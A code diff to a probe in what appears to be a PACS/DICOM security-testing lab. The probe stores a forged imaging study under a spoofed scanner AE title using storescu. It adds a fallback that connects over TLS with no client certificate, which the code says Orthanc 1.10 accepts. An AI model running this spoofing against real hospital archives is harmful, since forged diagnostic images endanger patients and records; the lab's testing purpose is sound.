@@ -9,29 +9,43 @@ from pacslab.probes.findings import Side
 from pacslab.probes.forged import picture, take_away
 from pacslab.probes.registry import Seen, probe
 from pacslab.probes.site import RefusedError
+from pacslab.probes.unproven import stored_without_certificate
 from pacslab.scenario.models import Severity
 
 if TYPE_CHECKING:
     from pacslab.probes.site import Site
 
 
+def _storescu(site: Site, *options: str) -> str:
+    endpoint, called = site.archive.dicom, site.handover.dicom.called_ae_title
+    return " ".join(
+        ["storescu", *options, "-aet", SCANNER, "-aec", called, endpoint.host, str(endpoint.port), "FILE.dcm"]
+    )
+
+
 @probe("dicom-store-borrowed", Side.ATTACK, "Store a forged image under the scanner's title", Severity.CRITICAL)
 def store_as_scanner(site: Site) -> Seen:
-    """Call oneself CT01 and store an invented study: whoever has the scanner's name makes the scanner's images."""
-    endpoint = site.archive.dicom
-    called = site.handover.dicom.called_ae_title
-    asked = f"storescu -aet {SCANNER} -aec {called} {endpoint.host} {endpoint.port} FILE.dcm"
+    """Call oneself CT01 and store an invented study: whoever has the scanner's name makes the scanner's images.
+
+    Over TLS the stranger first shows a certificate that nobody knows, then none at all: where a certificate is not
+    required, Orthanc 1.10 refuses the one and takes the other.
+    """
+    asked, how = _storescu(site), ""
     uid, file = picture(site, "forged-as-scanner", f"FORGED AS {SCANNER}")
     held = site.stranger.hold([file])
     try:
         site.stranger.store(held, AS_SCANNER)
     except RefusedError as reason:
-        return Seen(False, f"The archive refused a C-STORE from {STRANGER} calling itself {SCANNER}: {reason}.", asked)
+        unproven = bool(site.configuration.get("DicomTlsEnabled")) and stored_without_certificate(site, SCANNER, file)
+        if not unproven:
+            words = f"The archive refused a C-STORE from {STRANGER} calling itself {SCANNER}: {reason}."
+            return Seen(False, words, asked)
+        asked, how = _storescu(site, "+tla -ic"), "Over TLS, without any certificate, "
     finally:
         site.stranger.forget(uid)
     taken = " It has been deleted again." if take_away(site, uid) else ""
     return Seen(
         True,
-        f"{STRANGER} called itself {SCANNER}, and the archive took a forged study as the scanner's own.{taken}",
+        f"{how}{STRANGER} called itself {SCANNER}, and the archive took a forged study as the scanner's own.{taken}",
         asked,
     )
